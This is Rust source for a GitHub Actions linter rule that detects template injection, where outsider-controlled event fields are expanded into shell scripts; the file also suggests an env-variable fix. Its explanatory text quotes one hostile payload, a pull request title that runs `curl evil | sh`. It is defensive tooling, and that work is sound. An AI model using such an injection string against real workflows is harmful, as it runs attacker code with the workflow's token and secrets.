use crate::{Ctx, rule};
use shipshape_core::{Confidence, Diagnostic};
use std::collections::HashSet;

rule! {
    code: "GHA002", name: "template-injection", severity: Error, category: Security, default: true, fix: Unsafe,
    peers: ["zizmor:template-injection", "checkov:CKV_GHA_2", "actionlint:expression"], options: [],
    summary: "Attacker-controlled values expanded into a shell script or github-script",
    what: "Flags `${{ }}` expressions in `run:` (and `actions/github-script`'s `script:`) that read values an outsider controls: issue, pull request, comment, review and commit titles, bodies, messages, branch names (`github.head_ref`), author names and emails. Values no outsider can choose (`github.sha`, `github.run_id`, `*.sha`, numbers, booleans, `steps.*.outcome`) are never flagged, nor are expressions whose result is a boolean whatever they read (`==`, `!=`, `<`, `!`, `contains()`, `startsWith()`, `endsWith()`); other `github.event.*` fields are flagged with medium confidence, and label, milestone and workflow names (set by people with triage access) and release fields such as `github.event.release.tag_name` or `.name` (only people with write access publish a release) as a warning with medium confidence. `inputs.X` of a `workflow_dispatch` or `workflow_call` input of type `string` is free text too (an error with high confidence when the workflow can be called, since a caller may pass on anything; a warning with medium confidence when only `workflow_dispatch` starts it, which takes write access); `boolean`, `number`, `choice` and `environment` inputs, and composite actions' untyped inputs, are not flagged.",
    why: "The expression is pasted into the script before the shell runs it, so a pull request titled `\"; curl evil | sh #` runs that command with the workflow's token and secrets.",
    example: "on: issues\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"New issue - ${{ github.event.issue.title }}\"",
    instead: "on: issues\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"New issue - ${ISSUE_TITLE}\"\n        env:\n          ISSUE_TITLE: ${{ github.event.issue.title }}",
    fix_safety: "Unsafe: moves the value into the step's `env:` and uses `${NAME}` in the script (in `run:` only). Inside single quotes the shell does not expand variables, so check the quoting.",
    refs: "- https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections\n- https://docs.zizmor.sh/audits/#template-injection",
}

/// Trailing fields of `github.event` that an outsider writes.
const DANGEROUS_SUFFIXES: &[&str] = &[
    "title",
    "body",
    "message",
    "name",
    "email",
    "label",
    "ref",
    "head_ref",
    "head_branch",
    "display_title",
    "default_branch",
    "page_name",
    "description",
    "text",
];

/// Fields of `github.event` that only people with triage or write access set: label and milestone
/// names (wherever the event lists them), workflow names.
fn maintainer_set(rest: &[&str]) -> bool {
    let Some(&last) = rest.last() else { return false };
    (rest
        .first()
        .is_some_and(|s| matches!(*s, "label" | "milestone" | "workflow_run" | "workflow"))
        || (rest.contains(&"labels") && last == "name"))
        && !matches!(last, "head_branch" | "display_title" | "message" | "email")
        && !rest.contains(&"head_commit")
}

/// Who sets a field of `github.event` that no outsider can: people with write access (a release's
/// tag, name and notes: only they publish one) or with triage access (see [`maintainer_set`]).
fn maintainer_access(rest: &[&str]) -> Option<&'static str> {
    if rest.first() == Some(&"release") && rest.len() > 1 {
        return Some("write");
    }
    maintainer_set(rest).then_some("triage")
}

/// The access of whoever sets a context path only maintainers set (see [`maintainer_access`]).
fn set_by_maintainers(path: &[String]) -> Option<&'static str> {
    let p: Vec<&str> = path.iter().map(String::as_str).collect();
    match p.as_slice() {
        ["github", "event", rest @ ..] => maintainer_access(rest),
        _ => None,
    }
}

/// How dangerous a context path is: `Some(High)`, `Some(Medium)`, or `None` when safe or unknown.
pub fn injection_risk(path: &[String]) -> Option<Confidence> {
    let p: Vec<&str> = path.iter().map(String::as_str).collect();
    match p.as_slice() {
        ["github", "head_ref"] => Some(Confidence::High),
        ["github", "event", rest @ ..] => {
            let last = *rest.last()?;
            let trusted_owner = rest.first().is_some_and(|s| {
                matches!(
                    *s,
                    "repository" | "sender" | "pusher" | "installation" | "organization" | "enterprise" | "inputs" | "schedule"
                )
            });
            let safe_leaf = matches!(
                last,
                "sha"
                    | "id"
                    | "number"
                    | "node_id"
                    | "merged"
                    | "draft"
                    | "size"
                    | "created_at"
                    | "updated_at"
                    | "state"
                    | "action"
                    | "html_url"
                    | "url"
                    | "ref_type"
                    | "forced"
                    | "private"
                    | "before"
                    | "after"
                    | "login"
                    | "type"
                    | "timestamp"
                    // A repository's `owner/name`: GitHub allows only letters, digits, `-`, `_`, `.`.
                    | "full_name"
                    // Booleans GitHub sets.
                    | "created"
                    | "deleted"
                    | "locked"
                    | "fork"
                    // One of OWNER, MEMBER, COLLABORATOR, CONTRIBUTOR, FIRST_TIMER, NONE…
                    | "author_association"
            ) || (last == "name" && rest.len() >= 2 && matches!(rest[rest.len() - 2], "repo" | "repository"));
            let maintainer_set = maintainer_access(rest).is_some();
            if trusted_owner || safe_leaf || last.ends_with("_sha") {
                None
            } else if maintainer_set {
                Some(Confidence::Medium)
            } else if DANGEROUS_SUFFIXES.contains(&last) || rest.iter().any(|s| matches!(*s, "commits" | "head_commit" | "pages")) {
                Some(Confidence::High)
            } else {
                Some(Confidence::Medium)
            }
        }
        _ => None,
    }
}

/// An environment variable name for a context path: its last two segments, upper-cased.
fn env_name(path: &[String]) -> String {
    let tail: Vec<&str> = path.iter().rev().take(2).rev().map(String::as_str).collect();
    tail.join("_")
        .to_ascii_uppercase()
        .replace(|c: char| !c.is_ascii_alphanumeric(), "_")
}

/// The free-text inputs of a workflow: `workflow_dispatch` and `workflow_call` inputs of type
/// `string` (or with no type, which `workflow_dispatch` reads as `string`), with whether the
/// workflow can be called (a caller may pass on anything, pull request titles included).
/// `boolean`, `number`, `choice` and `environment` inputs can only hold what their type allows.
fn string_inputs(cx: &Ctx) -> (Vec<String>, bool) {
    let mut names = Vec::new();
    let mut callable = false;
    if !cx.is_workflow() {
        return (names, false);
    }
    for (event, node) in crate::model::triggers(cx.root) {
        if event != "workflow_dispatch" && event != "workflow_call" {
            continue;
        }
        callable |= event == "workflow_call";
        for (k, v) in node.get("inputs").map(|i| i.entries()).unwrap_or_default() {
            let ty = v.get("type").and_then(|t| t.as_str()).unwrap_or("string");
            if let Some(name) = k.as_str()
                && ty.eq_ignore_ascii_case("string")
            {
                names.push(name.to_ascii_lowercase());
            }
        }
    }
    (names, callable)
}

/// How dangerous `inputs.X` / `github.event.inputs.X` is: only string inputs hold free text. Who
/// sets them has write access (`workflow_dispatch`) or is a calling workflow, which may forward
/// attacker text; the former is medium confidence.
fn input_risk(path: &[String], strings: &[String], callable: bool) -> Option<Confidence> {
    let name = match path {
        [ctx, name] if ctx.eq_ignore_ascii_case("inputs") => name,
        [gh, ev, ctx, name] if gh == "github" && ev == "event" && ctx == "inputs" => name,
        _ => return None,
    };
    strings
        .iter()
        .any(|s| s.eq_ignore_ascii_case(name))
        .then_some(if callable { Confidence::High } else { Confidence::Medium })
}

fn check(cx: &Ctx, out: &mut Vec<Diagnostic>) {
    let (strings, callable) = string_inputs(cx);
    for (_, step) in cx.steps() {
        let mut scripts = Vec::new();
        if let Some(run) = step.get("run") {
            scripts.push(("run", run));
        }
        if crate::model::step_uses(step, "actions/github-script")
            && let Some(script) = step.get("with").and_then(|w| w.get("script"))
        {
            scripts.push(("script", script));
        }
        for (what, node) in scripts {
            let places = cx.literal_exprs(node);
            // One finding per expression text, at its first place, whose fix moves every place.
            let mut reported = HashSet::new();
            for e in cx.exprs_in(node) {
                // Only what reaches the expanded text: `${{ github.event.label.name == 'x' }}`
                // expands to `true` or `false`, whatever the label says.
                for (path, _, _) in e.parsed.expanded_paths() {
                    let input = input_risk(path, &strings, callable);
                    let Some(confidence) = input.or_else(|| injection_risk(path)) else {
                        continue;
                    };
                    let written = e.base.map(|_| e.span.text(cx.src));
                    if !reported.insert(written.map_or_else(|| path.join("."), str::to_owned)) {
                        break;
                    }
                    let fix = written
                        .filter(|_| what == "run")
                        .and_then(|w| cx.env_fix(step, places.get(w).map_or(&[][..], Vec::as_slice), w, &env_name(path)));
                    out.push(
                        Diagnostic::new(
                            meta(),
                            e.span,
                            if input.is_some() {
                                format!(
                                    "`{}` is free text from whoever runs or calls the workflow and is expanded straight into `{what}:`",
                                    path.join(".")
                                )
                            } else if let Some(access) = set_by_maintainers(path) {
                                format!(
                                    "`{}` is set by people with {access} access and is expanded straight into `{what}:`",
                                    path.join(".")
                                )
                            } else {
                                format!(
                                    "`{}` can be set by an outsider and is expanded straight into `{what}:`",
                                    path.join(".")
                                )
                            },
                        )
                        // Label names (triage access), release fields and `workflow_dispatch`-only
                        // inputs (write access) are not set by outsiders: a warning.
                        .severity(
                            if (input.is_none() && set_by_maintainers(path).is_some()) || (input.is_some() && !callable) {
                                shipshape_core::Severity::Warning
                            } else {
                                meta().severity
                            },
                        )
                        .help("pass it through `env:` (`env: VALUE: ${{ … }}`) and use `\"$VALUE\"` in the script")
                        .confidence(confidence)
                        .maybe_fix(fix),
                    );
                    break;
                }
            }
        }
    }
}
